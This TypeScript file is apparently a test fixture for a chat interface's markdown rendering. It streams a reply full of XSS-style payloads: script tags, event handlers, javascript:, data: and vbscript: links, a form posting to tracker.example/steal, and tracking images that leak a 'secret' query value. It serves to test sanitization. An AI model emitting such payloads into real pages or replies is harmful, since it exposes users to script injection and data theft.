import { streamReply } from '../perform.ts'
import type { Script } from '../types.ts'

const text = `Here is a text that wants to do harm.

<script>window.hostile = 'script'</script>
<img src="x" onerror="window.hostile = 'onerror'">
<svg onload="window.hostile = 'svg'"><script>window.hostile = 'svg script'</script></svg>
<iframe src="javascript:window.hostile='iframe'"></iframe>
<a href="javascript:window.hostile='anchor'" onclick="window.hostile='onclick'">an anchor</a>
<form action="https://tracker.example/steal"><input name="q"><button>Send</button></form>
<style>body { display: none }</style>
<base href="https://tracker.example/">

[a script link](javascript:window.hostile='link') [with case](JaVaScRiPt:window.hostile='case')
[a data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [a vbscript link](vbscript:hostile)
<javascript:window.hostile='autolink'>

![remote](https://tracker.example/pixel.png?secret=ticket)
![by reference][pixel]
![inline svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)

[pixel]: https://tracker.example/reference.png "tracks"

| cell | cell |
| --- | --- |
| <img src=x onerror=window.hostile='cell'> | [x](javascript:window.hostile='cell-link') |

\`\`\`html
<script>window.hostile = 'in code'</script>
\`\`\`

A good [link](https://example.com/) and the last line.`

export const hostileMarkdown: Script = {
  name: 'hostile-markdown',
  about: 'Script tags, event handlers, javascript: links, remote and reference images, SVG, forms',
  text: () => text,
  play: (stage) => streamReply(stage),
}
